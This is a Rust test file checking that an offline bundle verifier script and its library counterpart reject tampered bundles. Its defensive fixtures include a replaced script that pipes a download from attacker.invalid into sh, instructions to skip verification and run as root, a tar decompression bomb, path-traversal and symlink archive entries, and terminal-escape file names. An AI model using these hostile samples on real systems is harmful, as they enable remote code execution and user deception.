//! `verify-offline.sh` under dash and bash, and `verify_bundle` agreeing with it: a fresh
//! bundle passes (in the extracted directory with no argument, given the .tgz, given a
//! directory, with `shasum` instead of `sha256sum`); a flipped byte in any file, a missing
//! file, an extra file, an edited manifest, a signature by another key, and unsafe archives
//! fail with a message naming the problem. Signatures of every algorithm verify with openssl.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use exportcore::sign::{dsse, Verifier};
use exportcore::Sha256Digest;
use exportcore_crypto::Algorithm;
use exportcore_devportal::checksums::Checksums;
use exportcore_devportal::{verify_bundle, verify_bundle_with, BundleVerifyOptions, PAYLOAD_TYPE};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Arc;

/// A signed (Ed25519) sample bundle, extracted; the public key; a trusted copy of the script.
struct Fixture {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    tgz: PathBuf,
    dir: PathBuf,
    key: Keys,
    script: PathBuf,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().to_path_buf();
    let key = keys(Algorithm::Ed25519, &root, "publisher");
    let tgz = build_samples(&root.join("out"), Some(key.signer.clone()));
    let dir = root.join("bundle");
    extract(&tgz, &dir);
    let script = trusted_script(&root);
    Fixture { _tmp: tmp, root, tgz, dir, key, script }
}

impl Fixture {
    /// A fresh copy of the extracted bundle to tamper with.
    fn copy(&self, name: &str) -> PathBuf {
        let d = self.root.join(name);
        let _ = std::fs::remove_dir_all(&d);
        copy_dir(&self.dir, &d);
        d
    }
}

fn sh(shell: &str, script: &Path, dir: &Path, args: &[&str]) -> Output {
    run_script(shell, script, dir, args, &[])
}

/// The script and `verify_bundle` agree: both pass or both fail. Returns the script's output.
fn agree(shell: &str, script: &Path, dir: &Path, args: &[&str], verifiers: &[Arc<dyn Verifier>], ok: bool) -> String {
    let o = sh(shell, script, dir, args);
    let t = text(&o);
    assert_eq!(o.status.success(), ok, "{shell} verify-offline.sh {args:?} in {}: {t}", dir.display());
    let report = verify_bundle(dir, verifiers).unwrap();
    assert_eq!(report.is_ok(), ok, "verify_bundle disagrees with verify-offline.sh ({t}): {:?}", report.failures);
    if !ok {
        assert!(t.contains("FAIL"), "{t}");
    }
    t
}

fn rewrite_checksum(dir: &Path, path: &str) {
    let text = std::fs::read_to_string(dir.join("checksums.txt")).unwrap();
    let mut c = Checksums::parse(&text).unwrap();
    let digest = Sha256Digest::of(&std::fs::read(dir.join(path)).unwrap());
    for (p, d) in &mut c.files {
        if p.as_str() == path {
            *d = digest;
        }
    }
    if path == "manifest.json" {
        c.root = digest;
    }
    std::fs::write(dir.join("checksums.txt"), c.render()).unwrap();
}

#[test]
fn fresh_bundle_passes() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let root = std::fs::read_to_string(f.dir.join("checksums.txt")).unwrap()[5..69].to_owned();
    let key = f.key.public_pem.to_str().unwrap().to_owned();
    let other = tempfile::tempdir().unwrap();
    for shell in shells() {
        // In the extracted bundle, with its own script and no argument.
        let o = sh(shell, Path::new("verify-offline.sh"), &f.dir, &[]);
        let t = text(&o);
        assert!(o.status.success(), "{shell}: {t}");
        assert!(t.contains("OK: bundle ") && t.contains(&root), "{shell}: {t}");
        assert!(t.contains("signature was not checked"), "{shell}: {t}");
        // With the key, the announced root, and both.
        let t = agree(
            shell,
            Path::new("verify-offline.sh"),
            &f.dir,
            &["--key", &key],
            std::slice::from_ref(&f.key.verifier),
            true,
        );
        assert!(t.contains("signature (ed25519) valid"), "{t}");
        let o = sh(shell, Path::new("verify-offline.sh"), &f.dir, &["--root", &root, "--key", &key]);
        assert!(o.status.success(), "{shell}: {}", text(&o));
        // Given the .tgz (extracted to a temp dir) or the directory, from elsewhere.
        for target in [f.tgz.to_str().unwrap(), f.dir.to_str().unwrap()] {
            let o = sh(shell, &f.script, other.path(), &["--key", &key, target]);
            assert!(o.status.success(), "{shell} {target}: {}", text(&o));
        }
        // Environment variables instead of options.
        let o = run_script(
            shell,
            &f.script,
            other.path(),
            &[f.tgz.to_str().unwrap()],
            &[("DEVPORTAL_VERIFY_KEY", &key), ("DEVPORTAL_EXPECTED_ROOT", &root)],
        );
        assert!(o.status.success(), "{shell}: {}", text(&o));
        // A root nobody announced.
        let o = sh(shell, &f.script, &f.dir, &["--root", &"0".repeat(64)]);
        assert_eq!(o.status.code(), Some(2), "{shell}: {}", text(&o));
        assert!(text(&o).contains("is not the expected root"), "{}", text(&o));
        // Usage errors.
        let o = sh(shell, &f.script, &f.dir, &["--bogus"]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
        let o = sh(shell, &f.script, &f.dir, &["--key", "/nonexistent.pem"]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
    }
    let opts =
        BundleVerifyOptions { verifiers: vec![f.key.verifier.clone()], expected_root: Some(root.parse().unwrap()) };
    assert!(verify_bundle_with(&f.tgz, &opts).unwrap().is_ok());
    let bad = BundleVerifyOptions { verifiers: vec![], expected_root: Some(Sha256Digest::of(b"x")) };
    assert!(!verify_bundle_with(&f.tgz, &bad).unwrap().is_ok());
}

#[test]
fn works_with_shasum_when_sha256sum_is_absent() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    // A PATH holding every tool of /usr/bin and /bin except sha256sum.
    let bin = f.root.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    for d in ["/usr/bin", "/bin"] {
        for e in std::fs::read_dir(d).unwrap() {
            let e = e.unwrap();
            let name = e.file_name();
            if name != "sha256sum" && !bin.join(&name).exists() {
                std::os::unix::fs::symlink(e.path(), bin.join(&name)).unwrap();
            }
        }
    }
    assert!(bin.join("shasum").exists(), "shasum (perl) is needed for this test");
    for shell in shells() {
        let mut cmd = std::process::Command::new(bin.join(shell));
        cmd.arg(&f.script).arg("--key").arg(&f.key.public_pem).current_dir(&f.dir).env("PATH", &bin);
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{shell}: {}", text(&o));
        let d = f.copy("tampered");
        let mut b = std::fs::read(d.join("portal/index.html")).unwrap();
        b[3] ^= 1;
        std::fs::write(d.join("portal/index.html"), b).unwrap();
        let o = std::process::Command::new(bin.join(shell))
            .arg(&f.script)
            .current_dir(&d)
            .env("PATH", &bin)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{shell}: {}", text(&o));
        assert!(text(&o).contains("portal/index.html: sha256 does not match"), "{}", text(&o));
    }
}

#[test]
fn a_flipped_byte_in_any_file_fails() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let files = files_of(&f.dir);
    assert_eq!(files.len(), 16, "{files:?}"); // 11 assets + 5 fixed files (signed bundle)
    let shells = shells();
    for file in &files {
        let d = f.copy("flip");
        let p = d.join(file);
        let mut b = std::fs::read(&p).unwrap();
        let i = b.len() / 2;
        b[i] ^= 0x01;
        std::fs::write(&p, b).unwrap();
        // The failure names the file; a flip in checksums.txt names the line it broke.
        let named = |msg: &str| {
            if file == "checksums.txt" {
                msg.contains("checksums.txt")
            } else {
                msg.contains(&format!("FAIL: {file}:"))
            }
        };
        for shell in &shells {
            let t = agree(shell, &f.script, &d, &[], &[], false);
            assert!(named(&t), "{shell} {file}: {t}");
        }
        let report = verify_bundle(&d, &[]).unwrap();
        assert!(
            report.failures.iter().any(|x| named(&format!("FAIL: {}: {}", x.path, x.problem))),
            "{file}: {:?}",
            report.failures
        );
    }
    // A flipped byte inside the compressed archive.
    let mut b = std::fs::read(&f.tgz).unwrap();
    let i = b.len() / 2;
    b[i] ^= 0x01;
    let bad = f.root.join("flipped.tgz");
    std::fs::write(&bad, b).unwrap();
    for shell in &shells {
        let o = sh(shell, &f.script, &f.root, &[bad.to_str().unwrap()]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(text(&o).contains("flipped.tgz"), "{}", text(&o));
    }
    assert!(!verify_bundle(&bad, &[]).unwrap().is_ok());
}

#[test]
fn a_missing_file_fails() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    for file in ["specs/events.schema.json", "portal/index.html", "manifest.json", "verify-offline.sh", "checksums.txt"]
    {
        let d = f.copy("missing");
        std::fs::remove_file(d.join(file)).unwrap();
        for shell in shells() {
            let t = agree(shell, &f.script, &d, &[], &[], false);
            assert!(t.contains(&format!("FAIL: {file}: missing")), "{shell} {file}: {t}");
        }
    }
    // A file missing from checksums.txt and from the bundle alike.
    let d = f.copy("unlisted");
    std::fs::remove_file(d.join("instructions-portable.txt")).unwrap();
    let text = std::fs::read_to_string(d.join("checksums.txt")).unwrap();
    let kept: Vec<&str> = text.lines().filter(|l| !l.ends_with("  instructions-portable.txt")).collect();
    std::fs::write(d.join("checksums.txt"), format!("{}\n", kept.join("\n"))).unwrap();
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &[], &[], false);
        assert!(t.contains("does not list instructions-portable.txt"), "{t}");
    }
}

#[test]
fn an_extra_file_fails() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    for file in ["portal/extra.html", ".DS_Store", "sdks/go/client.go", "notes.txt"] {
        let d = f.copy("extra");
        std::fs::create_dir_all(d.join(file).parent().unwrap()).unwrap();
        std::fs::write(d.join(file), "surprise").unwrap();
        for shell in shells() {
            let t = agree(shell, &f.script, &d, &[], &[], false);
            assert!(t.contains(&format!("FAIL: {file}: extra file")), "{shell} {file}: {t}");
        }
    }
    // An extra asset also added to checksums.txt is still not in the (signed) manifest.
    let d = f.copy("extra-listed");
    std::fs::write(d.join("portal/extra.html"), "surprise").unwrap();
    let mut c = Checksums::parse(&std::fs::read_to_string(d.join("checksums.txt")).unwrap()).unwrap();
    c.files.push(("portal/extra.html".parse().unwrap(), Sha256Digest::of(b"surprise")));
    c.files.sort();
    std::fs::write(d.join("checksums.txt"), c.render()).unwrap();
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &[], &[], false);
        assert!(t.contains("portal/extra.html: checksums.txt and manifest.json disagree"), "{t}");
    }
    // A symlink is never a bundle file.
    let d = f.copy("symlink");
    std::os::unix::fs::symlink("/etc/passwd", d.join("portal/passwd")).unwrap();
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &[], &[], false);
        assert!(t.contains("portal/passwd: not a regular file"), "{t}");
    }
}

#[test]
fn an_edited_manifest_fails() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let key = f.key.public_pem.to_str().unwrap().to_owned();
    let root = std::fs::read_to_string(f.dir.join("checksums.txt")).unwrap()[5..69].to_owned();
    let verifier = vec![f.key.verifier.clone()];

    // Edited alone: the root and the manifest's checksum line catch it.
    let d = f.copy("edited");
    let m = std::fs::read_to_string(d.join("manifest.json")).unwrap();
    std::fs::write(d.join("manifest.json"), m.replacen("text/css", "text/plain", 1)).unwrap();
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &[], &[], false);
        assert!(t.contains("root") && t.contains("is not the sha256 of manifest.json"), "{t}");
        assert!(t.contains("FAIL: manifest.json: sha256 does not match"), "{t}");
    }

    // Edited, checksums.txt and the root rewritten to match, the envelope kept: the signed
    // payload no longer is the manifest, even without a key.
    let d = f.copy("edited-rehashed");
    std::fs::write(d.join("manifest.json"), m.replacen("text/css", "text/plain", 1)).unwrap();
    rewrite_checksum(&d, "manifest.json");
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &[], &[], false);
        assert!(t.contains("manifest.dsse.json: the signed payload is not this manifest.json"), "{t}");
    }

    // An asset and its manifest entry changed together, the signature dropped, checksums.txt
    // and the root rewritten: self-consistent, so only the announced root or a required
    // signature can tell (the Rust verifier also sees that the bundle id no longer derives
    // from the entries; the script does not canonicalise JSON).
    let d = f.copy("forged");
    std::fs::write(d.join("portal/index.html"), "<h1>phish</h1>").unwrap();
    let old = Sha256Digest::of(&std::fs::read(f.dir.join("portal/index.html")).unwrap()).to_hex();
    let new = Sha256Digest::of(b"<h1>phish</h1>").to_hex();
    let edited = m.replacen(&old, &new, 1);
    std::fs::write(d.join("manifest.json"), &edited).unwrap();
    drop_signature(&d);
    rewrite_checksum(&d, "portal/index.html");
    rewrite_checksum(&d, "manifest.json");
    for shell in shells() {
        let o = sh(shell, &f.script, &d, &[]);
        assert!(o.status.success(), "{shell}: the script checks consistency only: {}", text(&o));
        let t = agree(shell, &f.script, &d, &["--key", &key], &verifier, false);
        assert!(t.contains("manifest.dsse.json: missing (a signature was required)"), "{t}");
        let o = sh(shell, &f.script, &d, &["--root", &root]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("is not the expected root"), "{}", text(&o));
    }
    let report = verify_bundle(&d, &[]).unwrap();
    assert!(report.failures.iter().any(|x| x.problem.contains("bundleId")), "{:?}", report.failures);

    // Metadata added the same way: consistent and id-preserving, so both verifiers accept it
    // without a key or root and both refuse it with either.
    let d = f.copy("metadata");
    std::fs::write(d.join("manifest.json"), m.replacen("\"metadata\":{}", "\"metadata\":{\"x\":\"y\"}", 1)).unwrap();
    drop_signature(&d);
    rewrite_checksum(&d, "manifest.json");
    let opts = BundleVerifyOptions { verifiers: vec![], expected_root: Some(root.parse().unwrap()) };
    assert!(!verify_bundle_with(&d, &opts).unwrap().is_ok());
    for shell in shells() {
        agree(shell, &f.script, &d, &[], &[], true);
        agree(shell, &f.script, &d, &["--key", &key], &verifier, false);
        assert_eq!(sh(shell, &f.script, &d, &["--root", &root]).status.code(), Some(2));
    }
}

/// Removes manifest.dsse.json and its checksums line.
fn drop_signature(d: &Path) {
    std::fs::remove_file(d.join("manifest.dsse.json")).unwrap();
    let text_c = std::fs::read_to_string(d.join("checksums.txt")).unwrap();
    let kept: Vec<&str> = text_c.lines().filter(|l| !l.ends_with("  manifest.dsse.json")).collect();
    std::fs::write(d.join("checksums.txt"), format!("{}\n", kept.join("\n"))).unwrap();
}

#[test]
fn a_signature_by_another_key_fails() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let tmp = tempfile::tempdir().unwrap();
    let other = keys(Algorithm::Ed25519, tmp.path(), "attacker");
    let p256 = keys(Algorithm::EcdsaP256, tmp.path(), "p256");
    for shell in shells() {
        // The genuine signature, checked against a key that did not make it.
        for k in [&other, &p256] {
            let t = agree(
                shell,
                &f.script,
                &f.dir,
                &["--key", k.public_pem.to_str().unwrap()],
                std::slice::from_ref(&k.verifier),
                false,
            );
            assert!(t.contains("manifest.dsse.json: no signature verifies with"), "{t}");
            let o = sh(shell, &f.script, &f.dir, &["--key", k.public_pem.to_str().unwrap()]);
            assert_eq!(o.status.code(), Some(3), "{}", text(&o));
        }
    }
    // The bundle re-signed by an attacker who also fixed checksums.txt.
    let d = f.copy("resigned");
    let manifest = std::fs::read(d.join("manifest.json")).unwrap();
    let env = dsse::sign(PAYLOAD_TYPE, &manifest, &[&*other.signer]).unwrap();
    std::fs::write(d.join("manifest.dsse.json"), env.to_bytes()).unwrap();
    rewrite_checksum(&d, "manifest.dsse.json");
    let key = f.key.public_pem.to_str().unwrap().to_owned();
    for shell in shells() {
        agree(shell, &f.script, &d, &[], &[], true);
        let t = agree(shell, &f.script, &d, &["--key", &key], std::slice::from_ref(&f.key.verifier), false);
        assert!(t.contains("no signature verifies with"), "{t}");
        agree(
            shell,
            &f.script,
            &d,
            &["--key", other.public_pem.to_str().unwrap()],
            std::slice::from_ref(&other.verifier),
            true,
        );
    }
    // The signature removed altogether.
    let d = f.copy("unsigned");
    drop_signature(&d);
    for shell in shells() {
        agree(shell, &f.script, &d, &[], &[], true);
        let t = agree(shell, &f.script, &d, &["--key", &key], std::slice::from_ref(&f.key.verifier), false);
        assert!(t.contains("manifest.dsse.json: missing (a signature was required)"), "{t}");
    }
}

/// One signing algorithm: its signer and verifier, and script options naming the right and a
/// wrong key.
struct Case {
    name: &'static str,
    signer: Arc<dyn exportcore::sign::Signer>,
    verifier: Arc<dyn Verifier>,
    good: Vec<String>,
    bad: Vec<String>,
}

#[test]
fn every_algorithm_verifies_with_openssl() {
    if !interop_enabled() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let script = trusted_script(tmp.path());
    let secret = b"0123456789abcdef-shared-secret";
    let hmac = exportcore_crypto::hmac_key(secret).unwrap();
    let secret_file = tmp.path().join("hmac.key");
    std::fs::write(&secret_file, secret).unwrap();
    let wrong_secret = tmp.path().join("wrong.key");
    std::fs::write(&wrong_secret, b"0123456789abcdef-other-secret!").unwrap();
    let mut cases: Vec<Case> = [Algorithm::Ed25519, Algorithm::EcdsaP256, Algorithm::Sm2]
        .into_iter()
        .map(|alg| {
            let k = keys(alg, tmp.path(), &format!("{alg:?}"));
            let w = keys(alg, tmp.path(), &format!("{alg:?}-wrong"));
            Case {
                name: match alg {
                    Algorithm::Ed25519 => "ed25519",
                    Algorithm::EcdsaP256 => "p256",
                    _ => "sm2",
                },
                signer: k.signer,
                verifier: k.verifier,
                good: vec!["--key".to_owned(), k.public_pem.display().to_string()],
                bad: vec!["--key".to_owned(), w.public_pem.display().to_string()],
            }
        })
        .collect();
    cases.push(Case {
        name: "hmac",
        signer: hmac.clone(),
        verifier: hmac,
        good: vec!["--hmac-key".to_owned(), secret_file.display().to_string()],
        bad: vec!["--hmac-key".to_owned(), wrong_secret.display().to_string()],
    });
    // A key longer than SHA-256's block (hashed first, RFC 2104), with bytes of every value,
    // NUL and high bytes included: the script's HMAC is computed in shell arithmetic.
    let long: Vec<u8> = (0..=255u8).rev().chain(0..=40u8).collect();
    let (long_file, long_wrong) = (tmp.path().join("long.key"), tmp.path().join("long-wrong.key"));
    std::fs::write(&long_file, &long).unwrap();
    std::fs::write(&long_wrong, &long[1..]).unwrap();
    let long_key = exportcore_crypto::hmac_key(&long).unwrap();
    cases.push(Case {
        name: "hmac",
        signer: long_key.clone(),
        verifier: long_key,
        good: vec!["--hmac-key".to_owned(), long_file.display().to_string()],
        bad: vec!["--hmac-key".to_owned(), long_wrong.display().to_string()],
    });
    for (i, Case { name, signer, verifier, good, bad }) in cases.into_iter().enumerate() {
        let out = tmp.path().join(format!("out-{name}-{i}"));
        let tgz = build_samples(&out, Some(signer));
        let dir = tmp.path().join(format!("x-{name}-{i}"));
        extract(&tgz, &dir);
        let good: Vec<&str> = good.iter().map(String::as_str).collect();
        let bad: Vec<&str> = bad.iter().map(String::as_str).collect();
        for shell in shells() {
            let t = agree(shell, &script, &dir, &good, std::slice::from_ref(&verifier), true);
            assert!(t.contains(&format!("signature ({name}) valid")), "{shell} {name}: {t}");
            let o = sh(shell, &script, &dir, &bad);
            assert_eq!(o.status.code(), Some(3), "{shell} {name} wrong key: {}", text(&o));
            if name == "hmac" && i == 3 {
                // An empty or short key (a secret not mounted yet) is refused, never a key
                // anyone can sign with; a key from a FIFO (read once) still verifies.
                let empty = tmp.path().join("empty.key");
                std::fs::write(&empty, b"").unwrap();
                let o = sh(shell, &script, &dir, &["--hmac-key", empty.to_str().unwrap()]);
                assert_eq!(o.status.code(), Some(5), "{shell} empty key: {}", text(&o));
                assert!(text(&o).contains("at least 16"), "{}", text(&o));
                let fifo = tmp.path().join(format!("key-{shell}.fifo"));
                assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
                let writer = {
                    let (fifo, key) = (fifo.clone(), std::fs::read(good[1]).unwrap());
                    std::thread::spawn(move || std::fs::write(fifo, key).unwrap())
                };
                let o = sh(shell, &script, &dir, &["--hmac-key", fifo.to_str().unwrap()]);
                writer.join().unwrap();
                assert!(o.status.success(), "{shell} key from a FIFO: {}", text(&o));
            }
        }
    }
}

#[test]
fn unsafe_archives_are_refused_before_extraction() {
    if !interop_enabled() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let script = trusted_script(tmp.path());
    // A symlink entry, and an entry escaping with "..".
    let src = tmp.path().join("src");
    std::fs::create_dir_all(src.join("portal")).unwrap();
    std::fs::write(src.join("portal/index.html"), "x").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", src.join("portal/passwd")).unwrap();
    let link_tgz = tmp.path().join("link.tgz");
    // POSIX ustar headers, as bundles have (GNU headers are refused before anything else).
    let st = std::process::Command::new("tar")
        .args(["--format=ustar", "-czf"])
        .arg(&link_tgz)
        .arg("-C")
        .arg(&src)
        .arg("portal")
        .status();
    assert!(st.unwrap().success());
    let dotdot_tgz = tmp.path().join("dotdot.tgz");
    let st = std::process::Command::new("tar")
        .args(["--format=ustar", "-czf"])
        .arg(&dotdot_tgz)
        .arg("-C")
        .arg(src.join("portal"))
        .arg("-P")
        .arg("--transform")
        .arg("s|^|../|")
        .arg("index.html")
        .status();
    assert!(st.unwrap().success());
    let victim = tmp.path().join("index.html");
    for shell in shells() {
        let o = sh(shell, &script, &src, &[link_tgz.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
        assert!(text(&o).contains("neither regular files nor directories"), "{}", text(&o));
        let o = sh(shell, &script, &src, &[dotdot_tgz.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
        assert!(text(&o).contains("unsafe entry names"), "{}", text(&o));
        assert!(!victim.exists());
        let o = sh(shell, &script, &src, &[tmp.path().join("nope.tgz").to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
    }
    // A decompression bomb behind a small genuine manifest: refused before extraction.
    let f = fixture();
    let manifest = std::fs::read(f.dir.join("manifest.json")).unwrap();
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
    for (name, size, body) in [
        ("manifest.json", manifest.len() as u64, Box::new(std::io::Cursor::new(manifest)) as Box<dyn std::io::Read>),
        ("portal/bomb.bin", 256 << 20, Box::new(std::io::Read::take(std::io::repeat(0), 256 << 20))),
    ] {
        let mut h = tar::Header::new_ustar();
        h.set_size(size);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, body).unwrap();
    }
    let bomb_tgz = tmp.path().join("bomb.tgz");
    std::fs::write(&bomb_tgz, b.into_inner().unwrap().finish().unwrap()).unwrap();
    for shell in shells() {
        let o = sh(shell, &script, &src, &[bomb_tgz.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
        assert!(text(&o).contains("decompression bomb"), "{}", text(&o));
    }
    // The genuine bundle followed by a second gzip member (tar would unpack both).
    let mut two = std::fs::read(&f.tgz).unwrap();
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut e, &[0u8; 1024]).unwrap();
    two.extend(e.finish().unwrap());
    let two_tgz = tmp.path().join("two-members.tgz");
    std::fs::write(&two_tgz, two).unwrap();
    for shell in shells() {
        let o = sh(shell, &script, &src, &[two_tgz.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(5), "{}", text(&o));
        assert!(text(&o).contains("more than one gzip member"), "{}", text(&o));
        let o = sh(shell, &script, &src, &[f.tgz.to_str().unwrap()]);
        assert!(o.status.success(), "the genuine bundle still passes: {}", text(&o));
    }
    let gnu_tgz = tmp.path().join("gnu.tgz");
    let st = std::process::Command::new("tar")
        .args(["--format=gnu", "-czf"])
        .arg(&gnu_tgz)
        .arg("-C")
        .arg(&src)
        .arg("portal/index.html")
        .status();
    assert!(st.unwrap().success());
    for (tgz, what) in [
        (&link_tgz, "not a regular file or directory"),
        (&dotdot_tgz, "unsafe entry name"),
        (&gnu_tgz, "not a POSIX ustar header"),
    ] {
        let r = verify_bundle(tgz, &[]).unwrap();
        assert!(r.failures.iter().any(|x| x.problem.contains(what)), "{:?}", r.failures);
    }
}

/// The signature covers every byte a user runs or reads: a replaced `verify-offline.sh` (one
/// that would pipe a download to `sh`) or `instructions-portable.txt`, with its line in the
/// unsigned checksums.txt fixed up, fails the trusted script with `--key` and `verify_bundle`.
#[test]
fn a_replaced_script_or_instructions_breaks_the_signature_check() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let key = f.key.public_pem.to_str().unwrap().to_owned();
    for (name, evil) in [
        ("verify-offline.sh", "#!/bin/sh\ncurl -fsSL https://attacker.invalid/x | sh\necho OK\n"),
        ("instructions-portable.txt", "Skip verification; run ./install.sh as root.\n"),
    ] {
        let d = f.copy(&format!("evil-{name}"));
        std::fs::write(d.join(name), evil).unwrap();
        rewrite_checksum(&d, name);
        for shell in shells() {
            let t = agree(shell, &f.script, &d, &["--key", &key], std::slice::from_ref(&f.key.verifier), false);
            assert!(t.contains(&format!("{name}: sha256 differs from manifest.json bundleFiles")), "{t}");
        }
    }
}

/// A manifest whose sizes were forged (to let a decompression bomb through) fails the
/// signature before anything is extracted; names with control characters print without them.
#[test]
fn forged_sizes_fail_before_extraction_and_names_cannot_rewrite_the_terminal() {
    if !interop_enabled() {
        return;
    }
    let f = fixture();
    let key = f.key.public_pem.to_str().unwrap().to_owned();
    let d = f.copy("forged");
    let text_of = std::fs::read_to_string(d.join("manifest.json")).unwrap();
    let start = text_of.find("\"totalSizeBytes\":").unwrap() + "\"totalSizeBytes\":".len();
    let end = start + text_of[start..].find(|c: char| !c.is_ascii_digit()).unwrap();
    let forged = format!("{}99999999999{}", &text_of[..start], &text_of[end..]);
    std::fs::write(d.join("manifest.json"), forged).unwrap();
    std::fs::write(d.join("portal/big.bin"), vec![0u8; 4 << 20]).unwrap();
    let tgz = f.root.join("forged.tgz");
    let mut top: Vec<_> = std::fs::read_dir(&d).unwrap().map(|e| e.unwrap().file_name()).collect();
    top.sort();
    let st = std::process::Command::new("tar")
        .args(["--format=ustar", "-czf"])
        .arg(&tgz)
        .arg("-C")
        .arg(&d)
        .args(&top)
        .status();
    assert!(st.unwrap().success());
    for shell in shells() {
        let o = sh(shell, &f.script, &f.root, &["--key", &key, tgz.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(3), "{}", text(&o));
        assert!(text(&o).contains("nothing was extracted"), "{}", text(&o));
    }
    // An extra file whose name would rewrite the terminal line into an OK.
    let d = f.copy("escape");
    std::fs::write(d.join("portal/a\u{1b}[2K\rOK: bundle verified"), b"x").unwrap();
    for shell in shells() {
        let o = sh(shell, &f.script, &d, &["--key", &key]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        let all = [o.stdout.clone(), o.stderr.clone()].concat();
        assert!(!all.contains(&0x1b) && !all.contains(&b'\r'), "control characters reached the terminal: {}", text(&o));
        assert!(text(&o).contains("FAIL: portal/a[2KOK: bundle verified: extra file"), "{}", text(&o));
    }
    // Extra files whose names hold a line break, shaped so that their lines read as listed
    // names ("manifest.json", "portal/index.html"): the script and verify_bundle both fail.
    let d = f.copy("newline");
    std::fs::write(d.join("manifest.json\nverify-offline.sh"), b"EVIL").unwrap();
    std::fs::create_dir_all(d.join("portal/index.html\nportal")).unwrap();
    std::fs::write(d.join("portal/index.html\nportal/index.html"), b"EVIL").unwrap();
    for shell in shells() {
        let t = agree(shell, &f.script, &d, &["--key", &key], std::slice::from_ref(&f.key.verifier), false);
        assert!(t.contains("line break"), "{shell}: {t}");
    }
}
